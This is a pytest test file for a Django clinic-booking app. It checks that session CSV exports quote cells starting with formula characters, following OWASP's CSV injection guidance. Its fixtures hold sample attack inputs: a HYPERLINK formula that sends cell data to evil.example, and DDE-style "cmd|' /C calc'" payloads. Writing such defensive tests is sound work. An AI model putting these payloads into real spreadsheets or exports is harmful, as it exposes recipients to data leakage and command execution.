"""CSV exports are formula-safe (OWASP's CSV injection rule) on both export paths: a cell
that begins with =, +, -, @, tab or carriage return reaches the spreadsheet quoted."""

import csv
import io
from datetime import date

import pytest
from django.db import connection
from django.urls import reverse

from booking.staff import exports
from devtools.factories import RunnerFactory, UserFactory
from tests.booking.staff.conftest import at

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
NOVEMBER = {"start": date(2026, 11, 1), "end": date(2026, 11, 30)}


def parse(chunks) -> list[list[str]]:
    text = "".join(c.decode() if isinstance(c, bytes) else c for c in chunks)
    # newline="": a carriage return inside a quoted cell stays part of the cell.
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def poisoned(clinic, therapist, service, make_session):
    """One session per dangerous first character, in the runner's name and the override
    reason, plus the issue's HYPERLINK runner; clinic, therapist, service and areas too."""
    clinic.name = "@Clinic"
    clinic.save()
    therapist.display_name = "-Lucía"
    therapist.save()
    service.name = "+Unloading"
    service.save()
    names = [HYPERLINK] + [f"{c}cmd|' /C calc'!A0" for c in DANGEROUS]
    for day, name in enumerate(names, start=2):
        runner = RunnerFactory(
            clinic=clinic, user=UserFactory(first_name=name, last_name="", email=f"r{day}@x.test")
        )
        make_session(
            at(2026, 11, day, 10),
            runner=runner,
            race_override_reason=f"{DANGEROUS[day % len(DANGEROUS)]}reason",
            discomfort_areas=["=legs"],
        )
    return names


def _assert_formula_safe(rows, names):
    header, *data = rows
    assert header == exports.SESSION_COLUMNS
    col = {name: i for i, name in enumerate(header)}
    assert sorted(r[col["runner"]] for r in data) == sorted("'" + n for n in names)
    for row in data:
        assert row[col["clinic"]] == "'@Clinic"
        assert row[col["therapist"]] == "'-Lucía"
        assert row[col["service"]] == "'+Unloading"
        assert row[col["discomfort_areas"]] == "'=legs"
        assert row[col["race_override_reason"]][0] == "'"
        assert row[col["race_override_reason"]][1] in DANGEROUS
        # What cannot start a formula is left as it was: numbers, times, status.
        assert row[col["id"]].isdigit() and row[col["start_local"]].startswith("2026-11-")
        assert row[col["status"]] == "booked"
        for cell in row:
            assert not cell.startswith(tuple(DANGEROUS)), row


@pytest.mark.clock(at(2026, 12, 1, 9))
@pytest.mark.postgres
def test_the_copy_export_quotes_formulas(clinic, poisoned):
    assert connection.vendor == "postgresql"  # sessions_csv takes the COPY path
    rows = parse(exports.sessions_csv(clinic=clinic, **NOVEMBER))
    _assert_formula_safe(rows, poisoned)


@pytest.mark.clock(at(2026, 12, 1, 9))
def test_the_python_export_quotes_formulas(clinic, poisoned):
    # The path sessions_csv takes on any database but PostgreSQL.
    rows = parse(exports.stream_csv(exports.session_rows(clinic=clinic, **NOVEMBER)))
    _assert_formula_safe(rows, poisoned)


@pytest.mark.clock(at(2026, 12, 1, 9))
def test_the_admins_download_is_formula_safe(persona, client, clinic, clinic_admin, poisoned):
    client = persona("clinic_admin").page
    q = "?start=2026-11-01&end=2026-11-30&group_by=week"
    r = client.get(reverse("staff:export-sessions") + q)
    assert r.status_code == 200
    _assert_formula_safe(parse(r.streaming_content), poisoned)
    report = parse(client.get(reverse("staff:export-report") + q).streaming_content)
    assert report[-1][:2] == ["total", str(len(poisoned))]


def test_only_text_is_quoted():
    assert exports.formula_safe(HYPERLINK) == "'" + HYPERLINK
    assert [exports.formula_safe(c + "1") for c in DANGEROUS] == ["'" + c + "1" for c in DANGEROUS]
    assert exports.formula_safe("Alice =1") == "Alice =1"
    # Numbers the product writes stay numbers (a negative amount is not a formula).
    assert exports.formula_safe(-5) == -5
